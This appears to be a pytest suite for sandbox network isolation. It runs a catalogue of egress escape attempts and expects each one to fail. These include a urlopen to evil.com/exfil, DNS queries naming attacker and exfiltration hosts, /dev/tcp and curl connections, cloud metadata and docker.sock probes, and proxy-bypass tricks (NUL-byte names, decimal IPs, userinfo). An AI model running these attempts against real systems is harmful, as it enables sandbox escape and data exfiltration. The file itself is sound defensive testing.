"""Egress with egress=False: nothing leaves the sandbox's own network namespace.
With an allow-list (docs/egress.md), the proxy is the one door, and no bypass
of it reaches the host (the "proxy_" attacks, each in a sandbox of its own).

A sandbox has a loopback interface and nothing else. The host listens on
TCP and UDP on all its addresses, on an abstract and a path unix socket
(conftest.HostNet); the shared check fails any attack after which one of them
was contacted, so "blocked" here means both "the call failed" and "the host
saw nothing".
"""

import pytest

from sec_support import jail_only

from seclib import ERRNO_HELPER, Attack, params

CAT = "egress"


def tcp(name, host, port, expect, family="AF_INET", doc=""):
    code = ERRNO_HELPER + '''
import socket
s = socket.socket(socket.%s, socket.SOCK_STREAM)
s.settimeout(2)
try:
    s.connect((%r, %s))
    print("RESULT connected")
except OSError as e:
    print("RESULT", errname(e))
''' % (family, host, port)
    return Attack(name, CAT, code, frozenset(expect), doc=doc)


def udp(name, host, port, expect, family="AF_INET", doc=""):
    """A datagram to the host. On the sandbox's own loopback the send itself
    works (and reaches nobody): the host listener must stay silent."""
    code = ERRNO_HELPER + '''
import socket
s = socket.socket(socket.%s, socket.SOCK_DGRAM)
s.settimeout(0.5)
try:
    s.sendto(b"exfil: secret data", (%r, %s))
    try:
        s.recvfrom(100)
        print("RESULT answered")
    except OSError as e:
        print("RESULT sent-unanswered", errname(e))
except OSError as e:
    print("RESULT", errname(e))
''' % (family, host, port)
    return Attack(name, CAT, code, frozenset(expect), doc=doc)


UNREACH = {"ENETUNREACH", "EHOSTUNREACH", "EADDRNOTAVAIL"}
REFUSED = {"ECONNREFUSED"}

PIP = '''
import shlex, subprocess
args = shlex.split(%r)
plain = subprocess.run(["pip", "install", args[-1]], capture_output=True, text=True, timeout=60)
print("plain pip:", plain.returncode, plain.stderr[-200:])
cmd = ["pip", "install", "-vv", "--break-system-packages", "--user", "--retries", "0", "--timeout", "2"]
r = subprocess.run(cmd + args, capture_output=True, text=True, timeout=60)
log = r.stdout + r.stderr
print(log[-1500:])
net = [m for m in ("Network is unreachable", "Connection refused", "Name or service not known",
                   "Temporary failure in name resolution") if m in log]
if r.returncode == 0:
    print("RESULT installed")
else:
    print("RESULT", "failed-network" if net else "failed-other", *[m.replace(" ", "_") for m in net])
'''


def pip_attack(name, args, doc=""):
    """pip, run the way a model retries it after PEP 668 refuses the plain
    `pip install`: as the user, past the system-packages guard. The verbose
    log names the network error that stopped it."""
    return Attack(name, CAT, PIP % args, frozenset({"failed-network"}), timeout=60, doc=doc)


DNS_QUERY = '''
import random, struct
def dns_query(name):
    hdr = struct.pack(">HHHHHH", random.randint(0, 65535), 0x0100, 1, 0, 0, 0)
    q = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\\0"
    return hdr + q + struct.pack(">HH", 1, 1)
'''

ATTACKS = [
    # -- TCP to the host: its addresses, its loopback, the daemon's own port --------------
    tcp("tcp4_host_daemon_port", "@HOST4@", "@DAEMON_PORT@", UNREACH,
        doc="the daemon listens on the host's 127.0.0.1 only; the host's LAN address first"),
    tcp("tcp4_host_listener", "@HOST4@", "@TCP4@", UNREACH),
    tcp("tcp4_loopback_daemon_port", "127.0.0.1", "@DAEMON_PORT@", REFUSED,
        doc="127.0.0.1 is the sandbox's own loopback: nobody listens there"),
    tcp("tcp4_loopback_host_listener", "127.0.0.1", "@TCP4@", REFUSED),
    tcp("tcp4_other_loopback_addr", "127.0.0.53", "53", REFUSED,
        doc="a resolver stub on the host's 127.0.0.53 is not this loopback's"),
    tcp("tcp4_gateway_guess", "10.0.0.1", "80", UNREACH),
    tcp("tcp4_public_internet", "1.1.1.1", "443", UNREACH),
    tcp("tcp4_metadata_service", "169.254.169.254", "80", UNREACH,
        doc="cloud metadata endpoint (credentials on real clouds)"),
    tcp("tcp6_host_global", "@HOST6@", "@TCP6@", UNREACH, family="AF_INET6"),
    tcp("tcp6_loopback_daemon_port", "::1", "@DAEMON_PORT@", REFUSED | UNREACH, family="AF_INET6"),
    tcp("tcp6_loopback_host_listener", "::1", "@TCP6@", REFUSED | UNREACH, family="AF_INET6"),
    tcp("tcp6_v4mapped_host", "::ffff:@HOST4@", "@TCP4@", UNREACH, family="AF_INET6"),
    tcp("tcp6_public_internet", "2606:4700:4700::1111", "443", UNREACH, family="AF_INET6"),
    Attack("tcp6_link_local_host", CAT, ERRNO_HELPER + '''
import socket
addr = "@HOST6LL@"
host, _, ifname = addr.partition("%")
s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
s.settimeout(2)
try:
    scope = socket.if_nametoindex(ifname)
except OSError:
    scope = socket.if_nametoindex("lo")  # the host's interface does not exist here: try the one there is
try:
    s.connect((host, @TCP6@, 0, scope))
    print("RESULT connected")
except OSError as e:
    print("RESULT", errname(e))
''', frozenset(UNREACH | REFUSED | {"EINVAL"}),
        doc="the host's link-local address: its interface does not exist here, lo does not carry it"),
    # -- UDP ------------------------------------------------------------------------------
    udp("udp4_host_listener", "@HOST4@", "@UDP4@", UNREACH),
    udp("udp4_loopback_host_listener", "127.0.0.1", "@UDP4@", {"sent-unanswered"} | REFUSED),
    udp("udp4_broadcast", "255.255.255.255", "9", UNREACH | {"EACCES"}),
    udp("udp4_mdns_multicast", "224.0.0.251", "5353", UNREACH | {"sent-unanswered"},
        doc="multicast on a loopback-only namespace: no route (or stays local)"),
    udp("udp6_host_listener", "@HOST6@", "@UDP6@", UNREACH, family="AF_INET6"),
    udp("udp6_loopback_host_listener", "::1", "@UDP6@", {"sent-unanswered"} | REFUSED | UNREACH,
        family="AF_INET6"),
    # -- ICMP -----------------------------------------------------------------------------
    Attack("icmp4_ping_host", CAT, ERRNO_HELPER + '''
import socket
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.sendto(b"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00", ("@HOST4@", 0))
    print("RESULT sent")
except OSError as e:
    print("RESULT", errname(e))
''', frozenset({"EACCES", "EPERM"} | UNREACH)),
    Attack("icmp4_ping_loopback", CAT, ERRNO_HELPER + '''
import socket
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.sendto(b"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00", ("127.0.0.1", 0))
    print("RESULT sent")
except OSError as e:
    print("RESULT", errname(e))
''', frozenset({"EACCES", "EPERM"}), doc="ping sockets are off for the sandbox's users (ping_group_range)"),
    Attack("icmp6_ping_host", CAT, ERRNO_HELPER + '''
import socket
try:
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)
    s.sendto(b"\\x80\\x00\\x00\\x00\\x00\\x00\\x00\\x00", ("@HOST6@", 0))
    print("RESULT sent")
except OSError as e:
    print("RESULT", errname(e))
''', frozenset({"EACCES", "EPERM"} | UNREACH)),
    # -- raw and packet sockets -----------------------------------------------------------
    Attack("raw_ipv4_socket", CAT, ERRNO_HELPER + '''
import socket
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    s.sendto(b"\\x45" + b"\\0" * 39, ("@HOST4@", 0))
    print("RESULT sent")
except OSError as e:
    print("RESULT", errname(e))
''', frozenset({"EPERM"})),
    Attack("raw_ipv6_socket", CAT, ERRNO_HELPER + '''
import socket
try:
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_UDP)
    print("RESULT opened")
except OSError as e:
    print("RESULT", errname(e))
''', frozenset({"EPERM"})),
    Attack("packet_socket_raw", CAT, ERRNO_HELPER + '''
import socket
try:
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    s.bind(("lo", 0))
    print("RESULT opened")
except OSError as e:
    print("RESULT", errname(e))
''', frozenset({"EAFNOSUPPORT"}), doc="seccomp refuses the family (EAFNOSUPPORT); the kernel alone would say EPERM"),
    Attack("packet_socket_dgram", CAT, ERRNO_HELPER + '''
import socket
try:
    s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0)
    print("RESULT opened")
except OSError as e:
    print("RESULT", errname(e))
''', frozenset({"EAFNOSUPPORT"})),
    # -- netlink: route and interface changes --------------------------------------------
    Attack("netlink_route_socket", CAT, ERRNO_HELPER + '''
import socket
try:
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE)
    s.bind((0, 0))
    print("RESULT opened")
except OSError as e:
    print("RESULT", errname(e))
''', frozenset({"EAFNOSUPPORT"}), doc="rtnetlink natively works unprivileged (read-only dumps)"),
    Attack("netlink_uevent_socket", CAT, ERRNO_HELPER + '''
import socket
try:
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 15)  # NETLINK_KOBJECT_UEVENT
    s.bind((0, 1))
    print("RESULT opened")
except OSError as e:
    print("RESULT", errname(e))
''', frozenset({"EAFNOSUPPORT"})),
    Attack("netlink_audit_socket", CAT, ERRNO_HELPER + '''
import socket
try:
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 9)  # NETLINK_AUDIT
    print("RESULT opened")
except OSError as e:
    print("RESULT", errname(e))
''', frozenset({"EAFNOSUPPORT"})),
    Attack("ip_link_add_dummy", CAT, '''
out=$(ip link add evil0 type dummy 2>&1); rc=$?
echo "$out"
[ $rc -eq 0 ] && echo "RESULT changed" || echo "RESULT failed"
''', frozenset({"failed"}), language="bash"),
    Attack("ip_route_add_default", CAT, '''
out=$(ip route add default via 127.0.0.1 dev lo 2>&1); rc=$?
echo "$out"
[ $rc -eq 0 ] && echo "RESULT changed" || echo "RESULT failed"
''', frozenset({"failed"}), language="bash"),
    Attack("ip_addr_add_host_ip", CAT, '''
out=$(ip addr add @HOST4@/32 dev lo 2>&1); rc=$?
echo "$out"
[ $rc -eq 0 ] && echo "RESULT changed" || echo "RESULT failed"
''', frozenset({"failed"}), language="bash"),
    Attack("ip_link_list", CAT, '''
import os, subprocess
r = subprocess.run(["ip", "-o", "link"], capture_output=True, text=True)
devs = [l.split(":")[0].strip() for l in open("/proc/net/dev").read().splitlines()[2:]]
print(r.returncode, r.stderr.strip())
print("RESULT", ",".join(devs))
''', frozenset({"lo"}), doc="the only interface is the sandbox's own loopback"),
    # -- vsock, unix sockets --------------------------------------------------------------
    Attack("vsock_to_host", CAT, ERRNO_HELPER + '''
import socket
try:
    s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
    s.settimeout(2)
    s.connect((2, 1024))  # VMADDR_CID_HOST
    print("RESULT connected")
except OSError as e:
    print("RESULT", errname(e))
''', frozenset({"EAFNOSUPPORT"})),
    Attack("unix_abstract_host", CAT, ERRNO_HELPER + '''
import socket
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
try:
    s.connect("\\0@ABSTRACT@")
    print("RESULT connected")
except OSError as e:
    print("RESULT", errname(e))
''', frozenset(REFUSED), doc="abstract names belong to the network namespace: the host's is not this one"),
    Attack("unix_path_host_tmp", CAT, ERRNO_HELPER + '''
import socket
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
try:
    s.connect("@UNIXPATH@")
    print("RESULT connected")
except OSError as e:
    print("RESULT", errname(e))
''', frozenset({"ENOENT"})),
    Attack("unix_path_daemon_socket", CAT, ERRNO_HELPER + '''
import socket
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
try:
    s.connect("@DAEMON_SOCK@")
    s.sendall(b"GET /v1/sandboxes HTTP/1.0\\r\\n\\r\\n")
    print("RESULT connected", s.recv(100))
except OSError as e:
    print("RESULT", errname(e))
''', frozenset({"ENOENT"}), doc="the daemon's own API socket"),
    Attack("unix_well_known_sockets", CAT, ERRNO_HELPER + '''
import os, socket
found = []
for p in ("/run/docker.sock", "/var/run/docker.sock", "/run/containerd/containerd.sock",
          "/run/systemd/private", "/run/dbus/system_bus_socket", "/var/run/dbus/system_bus_socket",
          "/run/user/0/bus", "/dev/log", "/run/systemd/journal/socket"):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect(p)
        found.append(p)
    except OSError:
        pass
print("RESULT", "none" if not found else ",".join(found))
''', frozenset({"none"})),
    # -- DNS ------------------------------------------------------------------------------
    Attack("dns_getaddrinfo", CAT, '''
import socket
try:
    print("RESULT resolved", socket.getaddrinfo("example.com", 443))
except socket.gaierror as e:
    print("RESULT gaierror", e)
''', frozenset({"gaierror"})),
    Attack("dns_udp_host_resolver", CAT, ERRNO_HELPER + DNS_QUERY + '''
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(1)
try:
    s.sendto(dns_query("exfil-secret.example.com"), ("@DNS4@", 53))
    print("RESULT answered", s.recvfrom(512))
except OSError as e:
    print("RESULT", errname(e))
''', frozenset(UNREACH), doc="the host's configured resolver; DNS exfiltration is the classic leak"),
    Attack("dns_tcp_host_resolver", CAT, ERRNO_HELPER + DNS_QUERY + '''
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.settimeout(1)
try:
    s.connect(("@DNS4@", 53))
    q = dns_query("exfil-secret.example.com")
    s.sendall(struct.pack(">H", len(q)) + q)
    print("RESULT answered", s.recv(512))
except OSError as e:
    print("RESULT", errname(e))
''', frozenset(UNREACH)),
    Attack("dns_udp_public", CAT, ERRNO_HELPER + DNS_QUERY + '''
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(1)
try:
    s.sendto(dns_query("c2.attacker.example"), ("8.8.8.8", 53))
    print("RESULT answered", s.recvfrom(512))
except OSError as e:
    print("RESULT", errname(e))
''', frozenset(UNREACH)),
    Attack("dns_udp_loopback_stub", CAT, ERRNO_HELPER + DNS_QUERY + '''
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(1)
s.connect(("127.0.0.53", 53))
try:
    s.send(dns_query("example.com"))
    print("RESULT answered", s.recv(512))
except OSError as e:
    print("RESULT", errname(e))
''', frozenset(REFUSED | {"TimeoutError"}),
        doc="a systemd-resolved-style stub at 127.0.0.53 would be the host's; here it is the sandbox's loopback"),
    Attack("dns_udp_ipv6_resolver", CAT, ERRNO_HELPER + DNS_QUERY + '''
import socket
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
s.settimeout(1)
try:
    s.sendto(dns_query("example.com"), ("2001:4860:4860::8888", 53))
    print("RESULT answered", s.recvfrom(512))
except OSError as e:
    print("RESULT", errname(e))
''', frozenset(UNREACH)),
    Attack("dig_command", CAT, '''
if command -v dig >/dev/null; then out=$(dig +time=1 +tries=1 @@DNS4@ example.com 2>&1)
else out=$(getent hosts example.com 2>&1); fi
rc=$?
echo "$out" | tail -3
[ $rc -eq 0 ] && [ -n "$out" ] && echo "RESULT resolved" || echo "RESULT failed"
''', frozenset({"failed"}), language="bash"),
    # -- HTTP, the way model code reaches out ---------------------------------------------
    Attack("urlopen_exfil_brief_example", CAT, '''
import urllib.request
try:
    urllib.request.urlopen("https://evil.com/exfil", timeout=1)
    print("RESULT sent")
except Exception as e:
    print("RESULT", type(e).__name__, e)
''', frozenset({"URLError"}), doc="the product brief's own example"),
    Attack("urlopen_daemon_api_loopback", CAT, '''
import urllib.request
try:
    r = urllib.request.urlopen("http://127.0.0.1:@DAEMON_PORT@/v1/healthz", timeout=2)
    print("RESULT reached", r.read()[:100])
except Exception as e:
    print("RESULT", type(e).__name__, e)
''', frozenset({"URLError"})),
    Attack("urlopen_daemon_api_host_ip", CAT, '''
import urllib.request
try:
    r = urllib.request.urlopen("http://@HOST4@:@DAEMON_PORT@/v1/healthz", timeout=2)
    print("RESULT reached", r.read()[:100])
except Exception as e:
    print("RESULT", type(e).__name__, e)
''', frozenset({"URLError"})),
    Attack("curl_host_listener", CAT, '''
curl -s -m 2 http://@HOST4@:@TCP4@/ -o /dev/null; rc=$?
[ $rc -eq 0 ] && echo "RESULT reached" || echo "RESULT curl-exit $rc"
''', frozenset({"curl-exit"}), language="bash"),
    Attack("bash_dev_tcp", CAT, '''
if (exec 3<>/dev/tcp/@HOST4@/@TCP4@) 2>/dev/null; then echo "RESULT connected"; else echo "RESULT failed"; fi
''', frozenset({"failed"}), language="bash"),
    Attack("reverse_listener_unreachable_from_host", CAT, ERRNO_HELPER + '''
import socket
srv = socket.socket()
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("0.0.0.0", 0))
srv.listen(1)
print("RESULT listening", srv.getsockname()[1])
''', frozenset({"listening"}), then=lambda arena, sb, o: _host_cannot_connect(arena, sb, o),
        doc="a listener inside is no way in: the host cannot reach the sandbox's port either"),
    # -- pip ------------------------------------------------------------------------------
    pip_attack("pip_install_pypi", "--index-url http://pypi.org/simple --trusted-host pypi.org requests-toolbelt",
               doc="plain `pip install` stops at PEP 668 (and at the missing CA bundle for https); "
                   "past both, the name does not resolve"),
    pip_attack("pip_install_from_host_index", "--index-url http://@HOST4@:@TCP4@/simple --trusted-host @HOST4@ leftpad",
               doc="an index on the host's address and a port the host listens on: the listener must see nothing"),
    pip_attack("pip_install_from_loopback_index", "--index-url http://127.0.0.1:@TCP4@/simple leftpad"),
    pip_attack("pip_install_from_url", "http://@HOST4@:@TCP4@/leftpad-1.0.tar.gz"),
]


# -- the allow-list proxy: every bypass of the list is refused, and the host's
# listeners see nothing. Only IP literals and names that are never resolved
# (no rule names them): the daemon here is on the host's network, and a name
# it looked up would be a query to a real resolver.
ALLOW = {"egress": {"allow": ["allowed.invalid:80", "*.allowed.invalid:443"]}}

PROXY = ERRNO_HELPER + '''
import socket
s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
s.sendall(%r)
head = b""
try:
    while b"\\r\\n\\r\\n" not in head:
        b = s.recv(4096)
        if not b:
            break
        head += b
    print("RESULT", head.split(b" ")[1].decode() if head.startswith(b"HTTP/") else "closed", head[:200])
except OSError as e:
    print("RESULT", errname(e))
'''


def proxy(name, request, doc="", expect=("403",)):
    """A raw request to the sandbox's egress proxy; the answer must be a refusal."""
    return Attack(name, CAT, PROXY % request.encode(), frozenset(expect), sandbox=ALLOW, doc=doc)


ATTACKS += [
    proxy("proxy_connect_host_listener", "CONNECT @HOST4@:@TCP4@ HTTP/1.1\r\n\r\n",
          doc="an IP literal needs a CIDR rule: the domain rules do not cover it"),
    proxy("proxy_get_host_listener", "GET http://@HOST4@:@TCP4@/ HTTP/1.1\r\nHost: allowed.invalid\r\n\r\n",
          doc="a Host header naming an allowed host does not make the URL's address allowed"),
    proxy("proxy_connect_daemon_loopback", "CONNECT 127.0.0.1:@DAEMON_PORT@ HTTP/1.1\r\n\r\n"),
    proxy("proxy_connect_metadata", "CONNECT 169.254.169.254:80 HTTP/1.1\r\n\r\n"),
    proxy("proxy_connect_ipv6_loopback", "CONNECT [::1]:@TCP6@ HTTP/1.1\r\n\r\n"),
    proxy("proxy_connect_v4_mapped_loopback", "CONNECT [::ffff:127.0.0.1]:@DAEMON_PORT@ HTTP/1.1\r\n\r\n",
          doc="a v4-mapped IPv6 literal is its IPv4 address for every rule and range"),
    proxy("proxy_connect_decimal_ip", "CONNECT 2130706433:@DAEMON_PORT@ HTTP/1.1\r\n\r\n",
          doc="inet_aton's forms (127.0.0.1 as one number) are names to the list, on none of its rules"),
    proxy("proxy_allowed_name_other_port", "CONNECT allowed.invalid:@TCP4@ HTTP/1.1\r\n\r\n",
          doc="every rule names one port"),
    proxy("proxy_wildcard_apex", "CONNECT allowed.invalid:443 HTTP/1.1\r\n\r\n",
          doc="*.allowed.invalid is what is below it, not itself"),
    proxy("proxy_wildcard_suffix_trick", "CONNECT evilallowed.invalid:443 HTTP/1.1\r\n\r\n"),
    proxy("proxy_host_with_at", "CONNECT allowed.invalid@@HOST4@:80 HTTP/1.1\r\n\r\n",
          doc="userinfo tricks: not a host:port at all (400)", expect=("400", "403")),
    Attack("proxy_direct_connect_still_unreachable", CAT, ERRNO_HELPER + '''
import socket
s = socket.socket()
s.settimeout(2)
try:
    s.connect(("@HOST4@", @TCP4@))
    print("RESULT connected")
except OSError as e:
    print("RESULT", errname(e))
''', frozenset(UNREACH), sandbox=ALLOW, doc="the allow-list adds no route: only the proxy is a way out"),
]


SOCKS = ERRNO_HELPER + '''
import socket, struct
s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
s.sendall(b"\\x05\\x01\\x00")
try:
    if s.recv(2) != b"\\x05\\x00":
        print("RESULT no-method")
    else:
        s.sendall(%r)
        r = s.recv(10)
        print("RESULT", "rep%%02x" %% r[1] if len(r) >= 2 else "closed")
except OSError as e:
    print("RESULT", errname(e))
'''


def socks(name, request, expect=("rep02",), doc=""):
    """A raw SOCKS5 request to the same proxy (ALL_PROXY=socks5h://): refused
    with a SOCKS reply code (02: not allowed by the rule set)."""
    return Attack(name, CAT, SOCKS % request, frozenset(expect), sandbox=ALLOW, doc=doc)


ATTACKS += [
    socks("socks5_connect_metadata", b"\x05\x01\x00\x01" + bytes([169, 254, 169, 254]) + b"\x00\x50",
          doc="an IPv4 literal in a SOCKS5 request needs a CIDR rule, as in CONNECT"),
    socks("socks5_connect_loopback_v6", b"\x05\x01\x00\x04" + bytes(15) + b"\x01" + b"\x00\x50"),
    socks("socks5_name_with_nul", b"\x05\x01\x00\x03\x1callowed.invalid\x00.evil.invalid\x00\x50",
          expect=("rep01",), doc="a NUL inside the name would hide its tail from the checks: refused"),
    socks("socks5_udp_associate", b"\x05\x03\x00\x01" + bytes(4) + b"\x00\x00", expect=("rep07",),
          doc="no UDP relay: CONNECT only"),
    socks("socks5_bind", b"\x05\x02\x00\x03\x0fallowed.invalid\x00\x50", expect=("rep07",),
          doc="no inbound connections through the proxy either"),
    socks("socks5_allowed_name_other_port", b"\x05\x01\x00\x03\x0fallowed.invalid\x1f\x90"),
]


def _host_cannot_connect(arena, sb, outcome):
    """The host dials the sandbox's port on its own loopback and LAN address;
    the listener inside must not have accepted anything."""
    import socket
    port = int(outcome.tokens[1])
    for addr in ("127.0.0.1", arena.host4):
        s = socket.socket()
        s.settimeout(1)
        try:
            s.connect_ex((addr, port))
        finally:
            s.close()
    r = sb.run_code("""
srv.settimeout(0.5)
try:
    srv.accept()
    print("accepted")
except OSError:
    print("nothing")
srv.close()
""", timeout=10)
    assert r.stdout == "nothing\n", r


@pytest.mark.parametrize("attack", params(ATTACKS))
def test_egress(arena, attack):
    if attack.name.startswith(("proxy_", "socks5_")):
        jail_only("egress_proxy")
    arena.attack(attack)
